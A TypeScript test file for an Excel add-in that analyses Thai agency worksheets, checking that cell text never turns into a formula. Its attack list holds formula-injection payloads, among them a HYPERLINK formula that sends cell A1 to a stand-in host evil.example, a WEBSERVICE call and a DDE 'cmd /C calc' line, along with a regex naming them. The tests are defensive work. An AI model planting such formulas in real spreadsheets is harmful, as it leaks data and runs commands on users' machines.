/** Text from a cell never becomes a formula, whatever it begins with. */
import * as fc from 'fast-check';
import { analyse } from '../../src/analyse';
import { cellInput } from '../../src/excel/cellContents';
import { openFixture, valueOf } from '../excel/support';
import type { Host } from '../host';

const attacks = [
  '=HYPERLINK("https://evil.example/?"&A1,"เปิด")',
  "=cmd|' /C calc'!A0",
  '+1+cmd',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\n=1+1',
  "'=1+1",
  '=WEBSERVICE("https://evil.example")',
  '＝1+1',
  '%0A=1',
  '#REF!',
  '1/2',
  'TRUE',
  '1e5',
];

/** A text that begins with "=" is its own value. */
const isFormula = ({ formula, value }: { readonly formula: unknown; readonly value: unknown }): boolean =>
  typeof formula === 'string' && formula.startsWith('=') && formula !== value;

const allFormulas = (host: Host): string[] =>
  host.sheets.flatMap((sheet) => {
    const area = sheet.usedArea;
    if (area === null) return [];
    const found: string[] = [];
    for (let row = 0; row <= area.lastRow; row += 1) {
      for (let column = 0; column <= area.lastColumn; column += 1) {
        const cell = sheet.cell(row, column);
        if (isFormula(cell)) found.push(String(cell.formula));
      }
    }
    return found;
  });

const DANGER = /HYPERLINK|WEBSERVICE|cmd|evil/i;

test.each(attacks)('an agency called %j', async (name) => {
  const host = await openFixture('seed-first-table.xlsx');
  const sheet = host.activeSheet;
  const before = allFormulas(host);
  host.setCell(sheet, 'A2', 'หน่วยงาน');
  host.setCell(sheet, 'B2', `'${name}`);
  host.setCell(sheet, 'A3', `'${name}`);
  const result = await analyse();
  if (result.ok) expect(allFormulas(host).length).toBeGreaterThan(before.length);
  expect(allFormulas(host).filter((formula) => DANGER.test(formula))).toEqual([]);
});

test.each(attacks)('%j typed as a text into one of our worksheets stays that text at the next click', async (text) => {
  const host = await openFixture('seed-first-table.xlsx');
  const measures = 'มาตรการ ITA 2568';
  valueOf(await analyse());
  host.setCell(measures, 'D7', `'${text}`);
  const { formula, value } = host.sheet(measures).cell('D7');
  valueOf(await analyse());
  const after = host.sheet(measures).cell('D7');
  expect(after.formula).toBe(formula);
  expect([value, String(value).trim()]).toContain(after.value);
});

test('any text goes into a cell as that text', async () => {
  const host = await openFixture('seed-first-table.xlsx');
  const sheet = host.activeSheet;
  const beginning = fc.constantFrom(
    '',
    '=',
    '+',
    '-',
    '@',
    "'",
    "''",
    '\t=',
    ' =',
    '#',
    '1',
    '0',
    '(',
    '$',
    '฿',
    'ก',
    '๑',
    'เ',
    'ั',
  );
  const text = fc.tuple(beginning, fc.string({ unit: 'grapheme', maxLength: 12 })).map((parts) => parts.join(''));
  const texts = fc
    .sample(text, { numRuns: 2000, seed: 5 })
    .filter((one) => !/[\u0000-\u0008\u000b\u000c\u000e-\u001f\ud800-\udfff\ufffe\uffff]/.test(one));
  await Excel.run(async (context) => {
    const range = context.workbook.worksheets.getItem(sheet).getRangeByIndexes(0, 40, texts.length, 1);
    range.formulas = texts.map((one) => [cellInput(one)]);
    range.load('values,formulas');
    await context.sync();
    expect(range.values.map((row: unknown[]) => row[0])).toEqual(texts);
  });
  expect(allFormulas(host).filter((formula) => DANGER.test(formula))).toEqual([]);
  const cells = texts.map((_, row) => host.sheet(sheet).cell(row, 40));
  expect(cells.filter(isFormula)).toEqual([]);
});
